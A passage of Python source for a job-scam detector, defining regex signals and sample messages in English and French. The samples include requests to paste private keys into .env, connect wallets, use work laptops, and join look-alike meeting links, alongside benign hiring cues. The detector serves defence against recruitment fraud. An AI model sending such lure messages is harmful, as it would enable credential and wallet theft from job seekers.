            r"[^.!?]{0,20}\b(?:while|when|during) (?:doing|running|taking|completing|working on)"
            r" (?:it|the (?:test|assessment|exercise|challenge|task))\b",
            near(r"\b(?:test|tests|exercice|exercices|evaluation|challenge|cas pratique)\b",
                 r"\b(?:sur|depuis|avec) (?:son|leur|leurs) (?:ordinateurs?|postes?|pc|portables?)"
                 r" (?:professionnels?|de travail|pro|du bureau|du boulot|d'entreprise)\b",
                 r"[^.!?]{0,80}"),
            r"\bconnecte(?:e|s|es)? (?:a|avec) (?:votre|ton|leur) (?:compte|sso|session|vpn)"
            r"(?: sso| d'entreprise| professionnel| pro| de l'entreprise)?[^.!?]{0,20}"
            r"\b(?:pendant|durant|lors de) (?:le test|l'exercice|l'evaluation|le challenge)\b",
        )
    },
    examples=(
        E("Put your private key and API keys in .env to test the relayer.",
          spans=("Put your private key",)),
        E("then connect your MetaMask wallet and run it on your work laptop",
          spans=("connect your MetaMask wallet", "on your work laptop")),
        E("Renseignez votre clé privée dans le fichier .env puis connectez votre portefeuille.",
          lang="fr", spans=("Renseignez votre clé privée", "connectez votre portefeuille")),
        E("Set your own GitHub token in the environment variables, then sync ur wallet and sign "
          "the test transaction.", spans=("your own GitHub token in the environment variables",
                                          "sync ur wallet", "sign the test transaction")),
        E("Run it on the laptop you use at your current job, or one issued by your employer.",
          spans=("laptop you use at your current job",)),
        E("Lie ton wallet. Il faut tes identifiants dans les variables d'environnement.",
          lang="fr", spans=("Lie ton wallet", "tes identifiants dans les variables "
                            "d'environnement")),
        E("Faites le test sur le portable fourni par votre entreprise.", lang="fr",
          spans=("portable fourni par votre entreprise",)),
        # the assessment on the work machine, signed into the company (probe set E, R30-P)
        E("For the coding challenge, most candidates do best on their corporate laptop.",
          spans=("coding challenge, most candidates do best on their corporate laptop",),
          note="(R30-P)"),
        E("Please stay logged into your company VPN while taking the assessment.",
          spans=("logged into your company VPN while taking the assessment",), note="(R30-P)"),
        E("Pour le test, beaucoup le font depuis leur poste du bureau.", lang="fr",
          spans=("test, beaucoup le font depuis leur poste du bureau",), note="(R30-P)"),
        E("Reste connecté à ton compte SSO pendant l'exercice.", lang="fr",
          spans=("connecté à ton compte SSO pendant l'exercice",), note="(R30-P)"),
    ),
    counterexamples=(
        E("We will never ask you to connect a wallet.", note="a promise not to ask (R36-D)"),
        E("You'll be signed into your company SSO on your first day.",
          note="onboarding (R30-P: a reverted attempt flagged it)"),
        E("For the onsite test, you'll use a laptop we provide in the office.",
          note="the company's machine at its office (R30-P)"),
        E("Our engineers develop on their company laptops with full admin rights.",
          note="no assessment (R30-P)"),
        E("Le premier jour, vous serez connecté à votre compte SSO depuis votre poste.",
          lang="fr", note="onboarding (R30-P)"),
        E("Les candidats font le test sur un poste que nous fournissons dans nos locaux.",
          lang="fr", note="(R30-P)"),
        E("You'll design key-management services for our security team."),
        E("Vous concevrez la gestion des clés pour notre équipe sécurité.", lang="fr"),
        E("Never paste real keys: the exercise runs on a testnet with dummy credentials.",
          note="a warning, not a request"),
        E("Store secrets in environment variables rather than in the code.",
          note="a coding guideline, not the candidate's own keys"),
        E("N'utilisez jamais votre ordinateur professionnel pour ce test.", lang="fr"),
    ),
)

# --------------------------------------------------------------------------------------------
# benign counter-signals (RED-FLAGS 1f)
# --------------------------------------------------------------------------------------------
COMPANY_PAYS_COSTS = PatternSignal(
    name="company_pays_costs",
    description="Money flows to the candidate only: the company ships the equipment, sponsors "
    "the visa, pays relocation or states that candidates never pay fees.",
    category="benign",
    polarity="benign",
    source="F4/F5 (disambiguation): direction-of-money rule in FTC, LinkedIn Help and Pôle "
    "emploi; RED-FLAGS 1f",
    patterns={
        "message": (
            r"\bwe(?:'ll| will| can| would)? (?:ship|send|courier|post|deliver|provide|give|issue)"
            r" (?:you )?(?:with )?(?:a |your |the |all )?(?:company |work |new |required )?"
            r"(?:laptop|equipment|macbook|computer|kit|hardware|devices?)\b",
            r"\bcompany[- ](?:provided|issued|supplied|paid) (?:laptop|equipment|hardware"
            r"|computer|devices?)\b",
            r"\bwe(?:'ll| will| can)? (?:sponsor|offer|provide|support|cover|handle|pay for)"
            r" (?:your |the |all )?(?:visas?|work permits?|relocation|sponsorship|immigration"
            r"|moving costs)\b",
            r"\bvisa sponsorship (?:is )?(?:available|provided|offered|included)\b",
            r"\b(?:relocation|moving) (?:package|support|assistance|allowance|bonus)\b",
            r"\b(?:fees?|costs?|expenses?) (?:are |is |will be )?(?:covered|paid|borne|reimbursed)"
            r" by (?:us|the company|the employer|our company)\b",
            r"\b(?:never|don't|do not|will not|won't) (?:charge|ask) (?:candidates|applicants|you)"
            r" (?:for )?(?:any )?(?:fees?|money|payment)\b|\bno (?:fees?|cost|charge) (?:to|for)"
            r" (?:you|candidates|applicants)\b",
            # French
            r"\b(?:nous )?(?:vous )?(?:fournissons|fournirons|envoyons|enverrons|livrerons"
            r"|pretons|expedions) (?:un |le |votre |du |tout le )?(?:ordinateur|pc|materiel"
            r"|equipement|portable)\b",
            r"\b(?:ordinateur|materiel|equipement|pc) (?:portable )?(?:fourni|fournis|offert)\b",
            r"\b(?:nous )?(?:parrainons|sponsorisons|prenons en charge|finan[cç]ons)"
            r" (?:votre |le |les |la )?(?:visas?|demenagement|relocalisation|permis de travail)\b",
            r"\b(?:frais|couts) (?:de |d')?(?:visa|demenagement|relocalisation|dossier)? ?(?:sont"
            r" |seront )?pris en charge par (?:nous|l'entreprise|la societe|l'employeur)\b",
            r"\b(?:aucuns? frais|gratuit) pour (?:vous|le candidat|les candidats)\b"
            # (« ne demandons jamais » only of money: « rien de secret » is no fee; rule R28-E)
            r"|\bne (?:facturons|facturerons|facturera) jamais\b|\bne (?:demandons|demanderons"
            r"|demandera) jamais (?:d'argent|de frais|de paiement|de versement|rien a payer"
            r"|aucun (?:frais|paiement|versement))\b",
        )
    },
    examples=(
        E("We'll courier you a company laptop before day one.", spans=("courier you a company "
                                                                       "laptop",)),
        E("We sponsor visas for this role.", spans=("We sponsor visas",)),
        E("Nous vous fournirons un ordinateur ; le déménagement est pris en charge par "
          "l'entreprise.", lang="fr", spans=("fournirons un ordinateur",)),
        E("Nous ne demandons jamais d'argent aux candidats.", lang="fr",
          spans=("ne demandons jamais d'argent",)),
        E("Ce n'est pas une arnaque : nous ne facturons jamais rien aux candidats.", lang="fr",
          spans=("ne facturons jamais",)),
    ),
    counterexamples=(
        E("You will need to buy the laptop from our vendor first."),
        E("Vous devez acheter le matériel chez notre fournisseur.", lang="fr"),
        E("Nous ne demandons jamais rien de secret, pouvons-nous passer sur WhatsApp ?",
          lang="fr", note="no money in sight (red-team round 10 F4)"),
    ),
)

#: The assessment platforms :data:`STANDARD_ASSESSMENT_PLATFORM` names that a link may hold
_PLATFORM_NAMES = (r"(?:hackerrank|codility|coderpad|codesignal|testgorilla|hackerearth|leetcode"
                   r"|devskiller|karat|codingame|codesubmit|testdome|codespaces)")

STANDARD_ASSESSMENT_PLATFORM = PatternSignal(
    name="standard_assessment_platform",
    description="The technical test runs on a known assessment platform or is written by the "
    "candidate in their own repository, typically after a first call.",
    category="benign",
    polarity="benign",
    source="L1-L3 (disambiguation): Source Allies interview repo; tcashcroft take-home brief; "
    "rtidx; RED-FLAGS 1f",
    patterns={
        "message": (
            r"\b(?:hackerrank|hacker rank|codility|coderpad|codesignal|testgorilla|hackerearth"
            r"|leetcode|devskiller|karat|codingame|codesubmit|testdome|github classroom"
            r"|codespaces)\b",
            near(r"\b(?:take-home|take home|home assignment|coding exercise|technical exercise"
                 r"|coding test|technical test|exercise|assignment)\b",
                 r"\b(?:after|following) (?:our|the|a|your) (?:first |initial |intro |introductory"
                 r" |recruiter |screening |phone |video )?(?:call|chat|conversation|interview"
                 r"|screen)\b"),
            near(r"\b(?:after|following) (?:our|the|a|your) (?:first |initial |intro |introductory"
                 r" |recruiter |screening |phone |video )?(?:call|chat|conversation|interview"
                 r"|screen)\b",
                 r"\b(?:take-home|take home|home assignment|coding exercise|technical exercise"
                 r"|coding test|technical test|exercise|assignment)\b"),
            r"\bin your own (?:public |private )?(?:repo|repository|github)\b",
            r"\b(?:submit|share|send) (?:us )?(?:a link to )?your (?:solution|code|repo"
            r"|repository|pull request)\b",
            # French
            r"\b(?:exercice|test) (?:technique |de code )?(?:a la maison|a faire chez (?:vous|soi"
            r"|toi))\b",
            near(r"\bapres (?:notre|un|le|votre) (?:premier )?(?:appel|echange|entretien)\b",
                 r"\b(?:test|exercice|cas pratique)\b"),
            r"\b(?:deposez|partagez|envoyez|rendez)(?:-nous| nous)? (?:le lien (?:vers|de) )?"
            r"(?:votre|ta) (?:solution|code|depot)\b",
        )
    },
    # a platform's name counts only on a link to the platform's own domain, not in another
    # host's user part, path, query or labels (red-team round 11 M5, rule R32-F), nor as the
    # text of a Markdown link to another host (review42 M5, rule R33-D)
    in_link=partial(d.platform_link, d.KNOWN_PLATFORMS),
    in_link_rows=_PLATFORM_NAMES + r"\S*[.@:]|[.@/:]\S*" + _PLATFORM_NAMES + r"|\]\(",
    examples=(
        E("After our call you'll get a 2-hour HackerRank exercise.",
          spans=("HackerRank", "After our call you'll get a 2-hour HackerRank exercise")),
        E("Build it in your own repository and submit your solution within a week.",
          spans=("in your own repository", "submit your solution")),
        E("Après notre premier échange, un test technique sur Codility.", lang="fr",
          spans=("Codility",)),
        E("Take the test on [HackerRank](https://www.hackerrank.com/test/91).",
          spans=("HackerRank", "hackerrank"), note="a link to the platform (R33-D)"),
        E("Passez le test sur [Codility](https://app.codility.com/t/4) avant vendredi.",
          lang="fr", spans=("Codility", "codility")),
    ),
    counterexamples=(
        E("Take the test on [HackerRank](https://skills-check.xyz/t/91) before Friday.",
          note="the platform's name as the text of a link to another host (R33-D)"),
        E("Passez le test sur [Codility](https://test-candidats.xyz/t/4) avant vendredi.",
          lang="fr"),
        E("Clone our repo and run npm install before the call."),
        E("Clonez notre dépôt et lancez le projet.", lang="fr"),
        E("Clone our repo, run npm install and send us a screenshot of the result."),
        E("Lancez le projet et envoyez-nous une capture d'écran.", lang="fr"),
    ),
)

VIDEO_INTERVIEW_OFFERED = PatternSignal(
    name="video_interview_offered",
    description="Offers a phone, video or in-person interview or call, or a standard meeting "
    "link (Teams, Zoom, Google Meet, Webex).",
    category="benign",
    polarity="benign",
    source="F8/L4 (disambiguation): BBB, vsafe.gov (phone or video interview offered); ALTA "
    "CISO note (standard meeting links); RED-FLAGS 1f",
    patterns={
        "message": (
            r"\b(?:video|phone|voice|telephone|zoom|teams|google meet|webex|in-person|in person"
            r"|face-to-face|face to face|onsite|on-site|virtual) (?:call|interview|chat|meeting"
            r"|conversation|screen|screening)s?\b",
            r"\b(?:call|interview|meet|chat|talk|speak) (?:by|over|on|via|through) (?:the )?"
            r"(?:phone|video|zoom|teams|microsoft teams|google meet|webex)\b",
            r"\b(?:teams|zoom|webex|google meet|meet) (?:link|invite|invitation|meeting)\b",
            r"\bmeet\.google\.com|\bzoom\.us/|\bteams\.microsoft\.com|\bwebex\.com\b",
            r"\b(?:schedule|book|set up|arrange|have|hop on|jump on) (?:a |an )?(?:quick |short"
            r" |brief |first |initial |intro |introductory |[0-9]{2}[- ]?min(?:ute)? )?(?:call"
            r"|chat)\b",
            # French
            r"\b(?:entretien|appel|echange|rendez-vous|rdv|reunion) (?:en |par )?(?:visio"
            r"|visioconference|video|telephonique|telephone|presentiel|personne|physique)\b",
            r"\b(?:sur|via|par) (?:teams|zoom|google meet|webex)\b",
            r"\blien (?:teams|zoom|google meet|meet|webex|de visio)\b",
            r"\b(?:planifier|organiser|caler|fixer|programmer) (?:un |une )?(?:appel|echange"
            r"|entretien|visio|call)\b",
        )
    },
    # a meeting tool's join instructions are written by the tool, whoever sends them: the
    # offer is read in the sender's own words only (rules R28-A, R28-G)
    unless_template=MEETING_OFFER_TEMPLATE,
    # a meeting platform's host counts only as the link's own host (rule R32-F)
    in_link=partial(d.platform_link, d.MEETING_PLATFORMS),
    in_link_rows=r"meet\.google\.com|zoom\.us/|teams\.microsoft\.com|webex\.com|\]\(",
    examples=(
        E("Join via this Teams link.", spans=("Teams link",)),
        E("Can we schedule a call next week?", spans=("schedule a call",)),
        E("Can we schedule a call?\n\nJoin Zoom Meeting\nhttps://us02web.zoom.us/j/84512345678"
          "\nMeeting ID: 845 1234 5678", spans=("schedule a call",),
          note="the sender's own words beside a block (R28-A)"),
        E("Je vous propose un entretien en visio mardi.", lang="fr",
          spans=("entretien en visio",)),
        E("Here is the link for Thursday: https://meet.google.com/abc-defg-hij",
          spans=("meet.google.com",), note="a bare Meet link, as a Zoom link (R33-B)"),
        E("Voici le lien pour jeudi : meet.google.com/abc-defg-hij", lang="fr",
          spans=("meet.google.com",)),
        E("Rejoignez-nous via ce [lien Teams](https://teams.microsoft.com/l/meetup-join/1).",
          lang="fr", spans=("lien Teams", "teams.microsoft.com"),
          note="a link to the platform (R33-D)"),
    ),
    counterexamples=(
        E("Join via this [Zoom link](https://meet-hr-portal.xyz/j/1) tomorrow.",
          note="a platform's name as the text of a link to another host (R33-D)"),
        E("Rejoignez-nous via ce [lien Teams](https://rdv-candidats.xyz/j/1) demain.",
          lang="fr"),
        E("The interview will be held by text on Telegram."),
        E("L'entretien se fera par écrit sur WhatsApp.", lang="fr"),
        E("The paper is attached.\n\nMicrosoft Teams meeting\nJoin on your computer or mobile "
          "app\nClick here to join the meeting\nMeeting ID: 245 118 963 452\nPasscode: a7XkQ2",
          note="a meeting tool's join instructions, not the sender's offer (R28-A)"),
        E("Le rapport est en pièce jointe.\n\nRéunion Microsoft Teams\nRejoindre sur votre "
          "ordinateur ou votre application mobile\nCliquez ici pour rejoindre la réunion\nID "
          "de réunion : 245 118 963 452", lang="fr", note="R28-A"),
    ),
)

# --------------------------------------------------------------------------------------------
# added for issue 9 (coverage of real hostile messages): appended after padded_text
# --------------------------------------------------------------------------------------------
_INTL_ORG = (
    r"(?:unicef|unesco|unhcr|undp|pnud|unfpa|unops|unido|onudi|unep|pnue|wfp|fao|iom|oim|ilo"
    r"|oms|icrc|cicr|ifrc|msf|usaid|afdb|oxfam|caritas|onu|united nations|nations unies"
    r"|world health organi[sz]ation|organisation mondiale de la sante|world food programme"
    r"|programme alimentaire mondial|world bank|banque mondiale|international monetary fund"
    r"|fonds monetaire international|imf|fmi|red cross|croix[- ]rouge|red crescent"
    r"|croissant[- ]rouge|medecins sans frontieres|doctors without borders|save the children"
    r"|plan international|world vision|care international|peace corps|corps de la paix"
    r"|african development bank|banque africaine de developpement|african union"
    r"|union africaine|ecowas|cedeao|economic community of west african states|communaute"
    r" economique des etats de l'afrique de l'ouest|sadc|comesa|uemoa|cemac)\)?"
)
_RECRUITS = (
    r"(?:recrute|recrutent|recrutera|recrutement|recrutements|recruits|is recruiting|are "
    r"recruiting|recruiting|recruitment|is hiring|are hiring|hiring|cherche des (?:volontaires"
    r"|benevoles|jeunes|agents)|needs volunteers|seeks volunteers|is looking for volunteers"
    r"|offres? d'emploi|job offers?|vacancies|vacancy)"
)
INTL_ORG_RECRUITMENT = PatternSignal(
    name="intl_org_recruitment",
    description="Recruits in the name of an international organisation, UN agency or aid NGO "
    "('UNICEF recrute des jeunes', 'Red Cross is hiring volunteers'): fake recruitment notices "
    "borrow these names.",
    category="fraud",
    polarity="risk",
    source="F10: cybermalveillance (usurpation du nom d'un organisme); FTC alert 2021 "
    "(pretending to represent well-known organisations or the government); LinkedIn Help "
    "(company impersonators); HR Today (HUG hospital case)",
    patterns={
        "message": (
            r"\b" + _INTL_ORG + r"(?:-[a-z]{2,20})?(?: [a-z0-9']{1,15}){0,4} " + _RECRUITS
            + r"\b",
            r"\b(?:avis de recrutement|appel a candidatures?|recrutement|recruitment(?: drive"
            r"| campaign| notice)?|offres? d'emploi|job offers?|vacanc(?:y|ies)(?: notice)?"
            r"|volunteers?|volontaires?|benevoles?)(?: (?:de|du|des|d'|for|at|with|by|the|l'|la"
            r"|le|of|a|au|aux|en collaboration avec|in partnership with)){0,2} ?" + _INTL_ORG
            + r"\b",
        )
    },
    examples=(
        E("UNICEF recrute des jeunes dynamiques dans plusieurs domaines, écrivez-moi.",
          lang="fr", spans=("UNICEF recrute",)),
        E("Avis de recrutement : la Croix-Rouge cherche des volontaires.", lang="fr",
          spans=("Croix-Rouge cherche des volontaires",)),
        E("The Red Cross is hiring volunteers abroad, paid relocation.",
          spans=("Red Cross is hiring",)),
        E("Recruitment notice for the World Bank: apply with the form below.",
          spans=("Recruitment notice for the World Bank",)),
        E("The Economic Community of West African States (ECOWAS) has begun 2026 staff "
          "recruitment to various departments",
          spans=("ECOWAS) has begun 2026 staff recruitment",)),
    ),
    counterexamples=(
        E("Our analytics team works on projects funded by the World Bank; we're hiring a data "
          "engineer in Lyon."),
        E("Nous recrutons un chef de projet ; notre client travaille avec des ONG.", lang="fr"),
    ),
)

UNKNOWN_MEETING_LINK = CallableSignal(
    name="unknown_meeting_link",
    description="Sends a meeting or booking link ('select a time slot', 'join the interview') "
    "on a domain that is neither a known meeting or scheduling platform nor the sender's own.",
    category="lure",
    polarity="risk",
    source="L4: FBI IC3 PSA Sept 2024 (non-standard meeting software); Sekoia ClickFake "
    "Interview (fake interview sites); ALTA CISO note (legitimate firms use Zoom, Teams, Webex, "
    "GoTo); L3: alien45, dev-trap-dossiers, xndbogdan (Calendly-style invitations)",
    detector=d.unknown_meeting_link,
    fast=d.unknown_meeting_link_fast,
    prefilter=(("message", d.MEETING_PREFILTER, False),
               ("message", d.VENDOR_HOST_PREFILTER, False)),
    reads=("message", "sender_company_url"),
    examples=(
        E("Please select a time slot here: https://hire-meet.app/calendar/block7",
          spans=("select a time slot", "https://hire-meet.app/calendar/block7")),
        E("Join the interview at https://zoom-interview-room.com/j/88121",
          spans=("Join the interview", "https://zoom-interview-room.com/j/88121")),
        E("Please join your interview here: https://meet.hirelink-connect.co/room/48213",
          spans=("join your interview", "https://meet.hirelink-connect.co/room/48213")),
        E("Merci de rejoindre votre entretien ici : https://meet.hirelink-connect.co/room/4821",
          lang="fr", spans=("rejoindre votre entretien",
                            "https://meet.hirelink-connect.co/room/4821")),
        E("Réservez un créneau sur https://rdv-recrutement.net/agenda/equipe", lang="fr",
          spans=("Réservez un créneau", "https://rdv-recrutement.net/agenda/equipe")),
        E("Microsoft Teams meeting\nJoin on your computer or mobile app\nClick here to join the "
          "meeting: https://teams-meetings.app/join/8812\nLearn more: https://aka.ms/JoinTeams"
          "Meeting", spans=("join the meeting", "https://teams-meetings.app/join/8812"),
          note="a look-alike link inside a block (R28-A)"),
        E("I'm running a meeting with our partners now, just wanted to intro you\n"
          "https://zoom.usweb01.us/j/88121\njoin here",
          spans=("https://zoom.usweb01.us/j/88121",),
          note="a host naming Zoom on another domain, no meeting words (R37-A)"),
        E("On t'attend : https://us05web.zoom-us.live/j/4471", lang="fr",
          spans=("https://us05web.zoom-us.live/j/4471",)),
        E("Le lien de notre échange : https://google-meet.online/abc-defg-hij", lang="fr",
          spans=("https://google-meet.online/abc-defg-hij",)),
        E("Here you go: https://ms-teams.app/join/5512", spans=("https://ms-teams.app/join/5512",)),
        E("Call starts now: https://zoom.cx/j/88121", spans=("https://zoom.cx/j/88121",),
          note="the vendor's name under a suffix sold as a generic name (review50 M2)"),
        E("Lien : https://us05webzoom.live/j/88121", lang="fr",
          spans=("https://us05webzoom.live/j/88121",)),
        E("https://zoom.us.j84512345678.live/", spans=("https://zoom.us.j84512345678.live/",),
          note="the vendor's domain first, then another (review51 M3)"),
        E("Rejoins : https://zoom-meet.app/84512345678", lang="fr",
          spans=("https://zoom-meet.app/84512345678",)),
    ),
    counterexamples=(
        E("Book a call with me: https://calendly.com/anna-northwind/30min"),
        E("I found your details on zoominfo.com; our CTO would love a word."),
        E("Notre client, zoomcar.in, recrute un ingénieur data à Bangalore.", lang="fr"),
        E("Voici le lien : https://us02web.zoom.us/j/88121", lang="fr"),
        E("Our app is on https://marketplace.zoom.us/apps/acme-notes if you want a look."),
        E("Our meeting notes live at https://teams.acme-robotics.com/notes",
          note="a 'teams' subdomain of a company, not Microsoft Teams (R37-A)"),
        E("Sign in to your company Zoom account through single sign-on at "
          "https://zoom.northwind-labs.com", note="no meeting's path (review50 H1)"),
        E("Cisco's Webex team is hiring SREs: https://webex.cisco.com/careers-overview"),
        E("Le cabinet Zoom RH (https://www.zoom-rh.fr) recrute un chargé de recrutement.",
          lang="fr"),
        E("Alerte sécurité : de faux recruteurs envoient des liens comme zoom-us.live ou "
          "us05web.zoom-meeting.app.", lang="fr",
          note="a warning, no meeting's path (review50 M1)"),
        E("Courses: https://www.msteams-training.co.uk/courses"),
        E("Your meeting: https://acme.zoom.us.mcas.ms/j/84512345678?pwd=abc123",
          note="a cloud-app proxy rewriting the vendor's link (review51 M1)"),
        E("Séminaire : https://zoom.univ-exemple.fr/j/84512345678", lang="fr",
          note="a university's own redirect (review51 M1)"),
        E("Join the interview on Teams: https://teams.microsoft.com/l/meetup-join/x"),
        E("Join your interview here: https://zoom.us/j/123456"),
        E("Pick a time on our careers site: https://careers.northwind.com/interview/book",
          fields={"sender_company_url": "https://www.northwind.com"}),
        E("Choisissez un créneau : https://calendly.com/atelier-lumen/entretien", lang="fr"),
        E("Can we schedule a call? The JD is at https://acme-robotics.com/jobs/123",
          note="a job page, not a meeting link"),
        E("Microsoft Teams meeting\nJoin on your computer or mobile app\nClick here to join the "
          "meeting\nLearn more: https://aka.ms/JoinTeamsMeeting | Meeting options",
          note="Microsoft's own help link (R28-A)"),
        E("Rejoindre avec Google Meet : https://meet.google.com/abc-defg-hij\nParticiper par "
          "téléphone : https://tel.meet/abc-defg-hij?pin=4417", lang="fr",
          note="Google's own dial-in page (R28-A)"),
    ),
)

POST_OFFER_ONBOARDING = CallableSignal(
    name="post_offer_onboarding",
    description="Identity or bank details are asked only after an offer, through HR or "
    "payroll: a signed offer or contract (or the first day) and an HR or payroll channel.",
    category="benign",
    polarity="benign",
    source="F7 (disambiguation): ID or bank details requested only after an offer, through HR "
    "or payroll (FTC Job Scams, LinkedIn Help, Pôle emploi); RED-FLAGS 1f",
    detector=d.post_offer_onboarding,
    prefilter=(("message", d.POST_OFFER_PREFILTER, False),),
    reads=("message", "sender_company_url"),
    examples=(
        E("Votre contrat étant désormais signé, merci de compléter votre dossier sur le portail "
          "RH.",
          lang="fr",
          spans=("Votre contrat étant désormais signé", "portail RH"),
          note="(R36-D)"),
        E("Nous sommes ravis que vous ayez accepté notre offre : merci de déposer votre RIB auprès"
          " de la Direction des ressources humaines.",
          lang="fr",
          spans=("vous ayez accepté notre offre", "Direction des ressources humaines"),
          note="(R36-D)"),
        E("Afin de préparer votre entrée en fonction, déposez votre RIB sur le portail "
          "collaborateur.",
          lang="fr",
          spans=("préparer votre entrée en fonction", "portail collaborateur"),
          note="(R36-D)"),
        E("As part of your conditional offer, please bring your passport to your induction.",
          spans=("As part of your conditional offer", "bring your passport to your induction"),
          note="(R36-D)"),
        E("Thanks for returning your signed contract! Please add your bank details in our HR "
          "portal.",
          spans=("Thanks for returning your signed contract", "HR portal"),
          note="(R36-D)"),
        E("Now that your employment contract is signed, the payroll team needs your bank "
          "details.",
          spans=("Now that your employment contract is signed", "payroll team",),
          note="the passive, as « maintenant que votre contrat est signé » (R21-F)"),
        E("Once your contract is signed, enter your bank details in the payroll portal.",
          spans=("Once your contract is signed", "payroll portal")),
        E("Thanks for accepting our offer! On your first day HR will check your passport in "
          "person.", spans=("Thanks for accepting our offer", "HR will check")),
        E("After you've signed your employment contract, Workday will ask for your tax forms.",
          spans=("After you've signed your employment contract", "Workday")),
        E("Une fois votre contrat signé, saisissez votre RIB dans l'espace salarié.", lang="fr",
          spans=("Une fois votre contrat signé", "espace salarié")),
        E("Votre promesse d'embauche est signée : le service RH vous demandera vos "
          "justificatifs lors de votre premier jour.", lang="fr",
          spans=("Votre promesse d'embauche est signée", "service RH")),
        E("Bonjour Hélène, suite à la signature de votre contrat, merci de nous transmettre via "
          "le portail RH une copie de votre pièce d'identité, votre RIB et votre carte Vitale.",
          lang="fr", spans=("suite à la signature de votre contrat", "portail RH"),
          note="« suite à la signature », the HR portal (R33-I)"),
        E("À la suite de la signature de votre contrat de travail, le service des ressources "
          "humaines vous demandera votre RIB.", lang="fr",
          spans=("À la suite de la signature de votre contrat",
                 "service des ressources humaines"), note="(R33-I)"),
        E("Après signature du contrat, déposez votre RIB sur le portail RH.", lang="fr",
          spans=("Après signature du contrat", "portail RH"), note="(R33-I)"),
        E("Following the signing of your employment contract, please upload your ID and bank "
          "details to the HR portal.",
          spans=("Following the signing of your employment contract", "HR portal"),
          note="as « suite à la signature de votre contrat » (R33-I)"),
        E("Following the signing of your employment contract, please upload your passport and "
          "bank details to our HR portal: https://acme.wd3.myworkdayjobs.com/onboarding",
          spans=("Following the signing of your employment contract", "HR portal"),
          note="a Workday link (R34-B)"),
        E("Following the signing of your employment contract, please upload your passport to "
          "our HR portal: https://hr.acme-robotics.com/start",
          fields={"sender_company_url": "https://www.acme-robotics.com"},
          spans=("Following the signing of your employment contract", "HR portal"),
          note="the company's own host (R34-B)"),
        E("Welcome aboard! Now that your offer is signed, please complete your direct deposit "
          "and tax forms in our HR portal (Workday): https://acme.wd5.myworkday.com/acme/login.",
          spans=("Now that your offer is signed", "HR portal"),
          note="Workday's employee host (review45 M2, R34-G)"),
    ),
    counterexamples=(
        E("As part of your conditional offer, send your passport and bank details now and bring "
          "your laptop to your induction.",
          note="a laptop is no document shown in person (review48 M2, R36-G)"),
        E("Thanks for returning your signed contract! Send your passport and bank details to me on"
          " WhatsApp.",
          note="no HR channel (R36-D)"),
        # the documents go to an unknown host (R34-B, review44 M4)
        E("Congratulations! Following the signing of your employment contract, please upload "
          "your passport, SSN and bank details to our HR portal: "
          "https://hr-onboard-portal.xyz/start", note="an unknown host is not HR (R34-B)"),
        E("Félicitations ! Suite à la signature de votre contrat, merci de déposer votre "
          "passeport et votre RIB sur le portail des RH : https://rh-embauche.xyz/debut",
          lang="fr", note="(R34-B)"),
        E("Once your contract is signed, enter your bank details in the payroll portal: "
          "https://docs.google.com/forms/d/abc", note="a form anyone can make (R34-G)"),
        E("Once your contract is signed, enter your bank details in the payroll portal: "
          "https://payroll.acme-robotics.com.verify-staff.net/",
          fields={"sender_company_url": "https://www.acme-robotics.com"},
          note="the company's name inside another host (R34-B)"),
        E("To complete your onboarding, send a copy of your passport and your bank details to "
          "this e-mail.", note="no signed offer: an early request"),
        E("Welcome to the team! Our HR manager needs your SSN and bank login today.",
          note="a welcome is not a signed offer"),
        E("Once you sign the contract, send your ID and IBAN to me on WhatsApp.",
          note="a signed contract, but no HR or payroll channel"),
        E("Envoie-moi ta CNI et ton IBAN, c'est pour te créer ton compte salarié.", lang="fr"),
        E("Avant tout entretien, envoyez la copie de votre passeport au service RH.", lang="fr",
          note="an HR channel, but before any interview"),
        E("Envoyez-moi votre RIB et une copie de votre pièce d'identité sur WhatsApp pour "
          "valider votre candidature.", lang="fr",
          note="a first contact's request, no contract and no HR channel (R33-I)"),
        E("Suite à la signature de votre contrat, envoyez-moi votre RIB et votre pièce "
          "d'identité sur WhatsApp.", lang="fr",
          note="a signed contract, but no HR channel (R33-I)"),
        E("Following the signing of your contract, send me your ID and bank details on "
          "WhatsApp.", note="a signed contract, but no HR channel (R33-I)"),
    ),
)

# The stage of a run request (rule R17-D of the notes): RED-FLAGS L1 is "'Run our code' before
# or as the interview" ("run / install / set up near 'before our call' or 'interview'"; 1f:
# "stronger ... 'before our call'"). Real employers' take-home briefs ask to clone and run too,
# so that a run request alone weighs little; when the code is to run before or during the call,
# the lure's stage is named.
#: What runs: the sender's code, named or as a pronoun; not a browser or a meeting app ("install
#: Teams before the interview" is ordinary; rule R17-J of the notes).
_CODE_OBJECT = (
    r"(?:it|them|this|that|everything|code|(?:the|our|my|all the|all|its) (?:dependencies"
    r"|packages|project|app|application|repo|repository|code|codebase|requirements|modules|demo"
    r"|mvp|backend|frontend|dapp|server|script))"
)
_RUN_VERB = (
    # (the object keeps "run through your CV" and "run a call" out; RE2 has no lookahead)
    r"\b(?:run|execute|launch) (?:it|them|this|that|the|our|my|npm|yarn|pnpm|docker"
    r"|all|everything|locally)\b|\binstall " + _CODE_OBJECT + r"\b|\bclone\b|\bgit clone\b"
    r"|\b(?:npm|yarn|pnpm) (?:install|i|start|run|dev)\b|\bpip install\b|" + d.PACKAGE_RUNNER
    + r"|\bdocker(?:-| )compose up\b|\bset (?:it|this|that|them|everything) up\b"
    r"|\bset up (?:the|our|this|my|your) (?:local |dev |development )?(?:project|app"
    r"|application|repo|repository|environment|codebase|code|mvp|dapp|demo|backend|frontend)\b"
    r"|\bget (?:it|the (?:project|app|application|code|repo)|our (?:project|app|application"
    r"|code|repo)) (?:up and )?running\b|\bspin (?:it|the (?:project|app)|our (?:project|app))"
    r" up\b"
)
_CALL_TIME = (
    r"\b(?:before|ahead of|prior to|during) (?:the|our|your|this|a|an|tomorrow's|today's)"
    r" (?:(?:technical|tech|next|first|upcoming|live|video|zoom|teams|coding|final|second)"
    r" )?(?:call|interview|meeting|chat|session|round|screening|conversation)\b"
    r"|\bbefore (?:we|i) (?:talk|speak|meet|chat|connect|call)\b"
)
_CODE_OBJECT_FR = (
    r"(?:le|la|les|l'|notre|votre|ton|ta|vos|nos) ?(?:projet|application|appli|code|depot|repo"
    r"|script|serveur|dependances|paquets|modules|mvp|demo|backend|frontend)"
)
_RUN_VERB_FR = (
    r"\b(?:lanc|install|execut|demarr)(?:er|ez|e|erez|eras|erons) " + _CODE_OBJECT_FR + r"\b"
    r"|\bclon(?:er|ez|e|erez|eras|erons)\b"
    r"|\b(?:fai(?:re|tes|s)|fer(?:ez|as|ons)) tourner\b|\bmett(?:re|ez) en place (?:le|l'|notre"
